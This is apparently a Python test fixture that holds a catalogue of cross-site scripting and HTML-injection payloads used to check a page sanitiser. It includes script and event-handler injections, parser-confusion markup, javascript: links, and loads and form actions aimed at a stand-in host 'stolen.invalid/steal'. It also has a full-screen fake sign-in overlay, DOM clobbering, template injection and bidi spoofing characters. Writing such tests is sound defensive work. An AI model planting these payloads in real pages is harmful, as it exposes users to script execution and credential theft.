"""What strangers write to make a browser run, fetch or show something: our own collection, one idea each.

Each would call ``globalThis.ran`` or ``alert``, ask ``stolen.invalid`` for something, or take the page over.
"""

from dataclasses import dataclass

RUN = "globalThis.ran=1;alert(1)"
AWAY = "http://stolen.invalid"


@dataclass(frozen=True)
class Payload:
    """One attempt; ``fires`` where it does its work by itself in a page that lets it (what the control proves)."""

    name: str
    markup: str
    fires: bool = True

    @property
    def asks(self) -> bool:
        """Whether it shows by asking another host rather than by running."""
        return AWAY in self.markup


PAYLOADS = (
    Payload("script", f"<script>{RUN}</script>"),
    Payload("script from elsewhere", f'<script src="{AWAY}/s.js"></script>'),
    Payload("script in odd case", f"<ScRiPt x>{RUN}</sCrIpT >"),
    Payload("script nested to survive a filter", f"<scr<script>ipt>{RUN}</scr</script>ipt>", fires=False),
    Payload("script after a broken attribute", f"\"'><script>{RUN}</script>"),
    Payload("script after a closed title", f"</title></textarea></style></noscript><script>{RUN}</script>"),
    Payload("script after a closed script", f"</script><script>{RUN}</script>"),
    Payload("image that fails", f'<img src="/nothing-there" onerror="{RUN}">'),
    Payload("image with slashes", f"<img/src='x'/onerror={RUN}>"),
    Payload("image that breaks out of a quote", f'" autofocus onfocus="{RUN}" x="', fires=False),
    Payload("svg that loads", f'<svg onload="{RUN}"></svg>'),
    Payload("svg with a script", f"<svg><script>{RUN}</script></svg>"),
    Payload("svg animation", f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></animate></svg>'),
    Payload("svg in foreign content", f"<svg><foreignObject><iframe onload='{RUN}'></iframe></foreignObject></svg>"),
    Payload(
        "svg use of data", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN} />#x'></use></svg>", fires=False
    ),
    Payload(
        "mathml that confuses parsers",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        fires=False,
    ),
    Payload("noscript that confuses parsers", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    Payload("details that open", f'<details open ontoggle="{RUN}">more</details>'),
    Payload("video that fails", f'<video><source onerror="{RUN}"></video>'),
    Payload("body event", f'<body onload="{RUN}" onpageshow="{RUN}">', fires=False),
    Payload("focus by itself", f'<input autofocus onfocus="{RUN}">'),
    Payload("style animation", f'<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationstart="{RUN}">'),
    Payload("link to a script", f'<a href="javascript:{RUN}">open</a>', fires=False),
    Payload("link to a hidden script", f'<a href="&#x6a;ava&Tab;script&colon;{RUN}">open</a>', fires=False),
    Payload("link to data", f'<a href="data:text/html,<script>{RUN}</script>">open</a>', fires=False),
    Payload("frame", f'<iframe src="{AWAY}/frame"></iframe>'),
    Payload("frame with a script for address", '<iframe src="javascript:parent.ran=1;alert(1)"></iframe>'),
    Payload("frame with its own document", '<iframe srcdoc="<script>parent.ran=1;alert(1)</script>"></iframe>'),
    Payload("object and embed", f'<object data="{AWAY}/o"></object><embed src="{AWAY}/e">'),
    Payload("image from elsewhere", f'<img src="{AWAY}/pixel.gif" srcset="{AWAY}/2.gif 2x">'),
    Payload(
        "old background", f'<table background="{AWAY}/b.gif"><tr><td background="{AWAY}/c.gif">x</td></tr></table>'
    ),
    Payload(
        "style with an address",
        f'<p style="background:url({AWAY}/p.gif)">x</p><p style="list-style-image:url({AWAY}/l)">',
    ),
    Payload("style sheet with an import", f"<style>@import url({AWAY}/i.css);body{{background:url({AWAY}/b)}}</style>"),
    Payload(
        "style sheet from elsewhere",
        f'<link rel="stylesheet" href="{AWAY}/l.css"><link rel="prefetch" href="{AWAY}/p">',
    ),
    Payload(
        "style that covers the page",
        '<div style="position:fixed;inset:0;z-index:9999;background:red">Sign in again</div>',
        fires=False,
    ),
    Payload(
        "audio and video",
        f'<video src="{AWAY}/v.mp4" poster="{AWAY}/p.png"></video><audio src="{AWAY}/a.mp3" autoplay></audio>',
    ),
    Payload("refresh", f'<meta http-equiv="refresh" content="0;url={AWAY}/gone">'),
    Payload("base", f'<base href="{AWAY}/"><img src="relative.gif">'),
    Payload(
        "form",
        f'<form action="{AWAY}/steal" id="f"><input name="password"><button>Sign in</button></form>',
        fires=False,
    ),
    Payload("button for another form", f'<button form="reply" formaction="{AWAY}/steal">Send</button>', fires=False),
    Payload(
        "htmx",
        f'<div hx-get="/sign-in" hx-trigger="load" hx-on::load="{RUN}" data-hx-get="/sign-in">x</div>',
        fires=False,
    ),
    Payload(
        "attributes of our own script",
        '<a data-key="s" data-started="2026-01-01" data-auto-submit popovertarget="keys">x</a>',
        fires=False,
    ),
    Payload(
        "clobbering", '<form id="timer" name="documentElement"><input name="elements" id="keys"></form>', fires=False
    ),
    Payload("template injection", "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>{{config}}", fires=False),
    Payload("signs that turn the text", "\u202egnp.exe \u2066<b>\u200bbold</b>", fires=False),
)
